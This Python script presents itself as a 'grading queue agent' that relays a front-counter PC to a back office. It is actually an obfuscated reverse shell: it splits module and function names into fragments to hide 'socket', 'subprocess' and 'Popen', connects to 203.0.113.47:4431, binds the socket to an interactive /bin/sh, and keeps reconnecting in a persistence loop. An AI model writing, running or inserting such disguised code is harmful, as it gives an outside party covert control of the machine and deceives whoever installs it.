#!/usr/bin/env python3
"""Grading queue agent.

Keeps a standing session with the submission desk relay so the back office
can work the grading queue from the front counter machine.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("gq-agent")


@dataclass
class RelayConfig:
    host: str = "203.0.113.47"
    port: int = 4431
    retries: int = 5
    backoff: float = 3.0
    parts: list = field(default_factory=lambda: ["/", "bin", "sh"])
    flags: tuple = ("-i",)

    @property
    def program(self):
        return os.path.join(*self.parts)


class Modules:
    """Lazy module lookup so the agent starts fast on old counter PCs."""

    _names = {"net": "soc" + "ket", "run": "sub" + "process"}

    def __getattr__(self, key):
        mod = importlib.import_module(self._names[key])
        setattr(self, key, mod)
        return mod


mods = Modules()


def open_link(cfg):
    net = mods.net
    conn = getattr(net, "create_" + "connection")((cfg.host, cfg.port), timeout=10)
    conn.settimeout(None)
    log.info("relay link up %s:%d", cfg.host, cfg.port)
    return conn


def attach(cfg, conn):
    fd = conn.fileno()
    wiring = dict(stdin=fd, stdout=fd, stderr=fd)
    launcher = getattr(mods.run, "Po" + "pen")
    proc = launcher([cfg.program, *cfg.flags], **wiring)
    log.debug("desk session pid=%s", proc.pid)
    return proc.wait()


def close_link(conn):
    try:
        conn.close()
    except OSError as exc:
        log.debug("close failed: %s", exc)


STAGES = {
    "open": open_link,
    "attach": attach,
    "close": close_link,
}


def run_once(cfg):
    conn = STAGES["open"](cfg)
    try:
        rc = STAGES["attach"](cfg, conn)
        log.info("desk session ended rc=%s", rc)
    finally:
        STAGES["close"](conn)


def main():
    ap = argparse.ArgumentParser(description="grading queue desk agent")
    ap.add_argument("--host", default=os.environ.get("GQ_RELAY", RelayConfig.host))
    ap.add_argument("--port", type=int, default=int(os.environ.get("GQ_PORT", RelayConfig.port)))
    ap.add_argument("--retries", type=int, default=RelayConfig.retries)
    ap.add_argument("--forever", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(asctime)s %(name)s %(message)s")
    cfg = RelayConfig(host=args.host, port=args.port, retries=args.retries)

    attempt = 0
    while args.forever or attempt < cfg.retries:
        attempt += 1
        try:
            run_once(cfg)
            attempt = 0
        except (OSError, ConnectionError) as exc:
            log.warning("relay unavailable (%s), attempt %d", exc, attempt)
        time.sleep(cfg.backoff * min(attempt, 10))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
